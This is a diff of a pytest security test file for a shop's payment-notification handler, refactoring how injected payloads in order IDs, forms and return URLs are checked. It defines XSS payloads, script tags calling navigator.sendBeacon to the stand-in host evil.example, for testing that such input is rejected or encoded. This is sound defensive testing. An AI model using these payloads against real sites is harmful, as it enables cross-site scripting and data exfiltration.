@@ -10,6 +10,8 @@ from urllib.parse import parse_qsl, quote, urlencode
 import pytest
 
 from callback.errors import InvalidNotification
+from callback.notification import BLANKS
+from callback.schema import is_id
 from tests.browser import TLS, Page, walk
 from tests.programs import program
 from tests.world import CHARGE, ORDER, World, sample
@@ -20,7 +22,6 @@ pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]
 SHOP = "http://shop.example"  # by http: the recorder holds no certificate
 HOME = f"shop.example/orders/{ORDER}"
 CALL = "navigator.sendBeacon('//evil.example')"
-# No longer than 100 characters, or most fields of a notification refuse them.
 SCRIPTS = [
     f"<script>{CALL}</script>",
     f'"><script>{CALL}</script>',
@@ -147,15 +148,17 @@ def _cases(shop: World, payload: str) -> Iterator[Case]:
     """Every way of a payload to a page. All other fields of the notification hold it each time, too."""
     shop.pay(orderId=payload)
     shop.order(orderId=payload, returnUrl=payload)
-    encoded = f"shop.example/orders/{quote(payload, safe='')}"
-    yield _case("form", payload, shop.deliver(_form(payload)), encoded)
     ids = {"reference_order": payload, "id": payload}
-    if payload.isascii() and payload.isprintable():
-        yield _case("reference_order", payload, shop.deliver(_notification(payload, payload, **ids)), encoded)
-    else:
-        with pytest.raises(InvalidNotification):
-            shop.deliver(_notification(payload, payload, **ids))
+    ways = {"form": (_form(payload), payload), "ids": (_notification(payload, payload, **ids), payload.strip(BLANKS))}
+    for way, (event, order_id) in ways.items():
+        if is_id(order_id):
+            leads_to = f"shop.example/orders/{quote(order_id, safe='')}"
+            yield _case(way, payload, shop.deliver(event), leads_to)
+        else:
+            with pytest.raises(InvalidNotification):
+                shop.deliver(event)
     url, leads_to = (SHOP + payload, HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.example/")
+    shop.pay()
     shop.order(returnUrl=url)
     yield _case("returnUrl", payload, shop.deliver(_notification(payload, f"returnUrl {quote(payload)}")), leads_to)
 
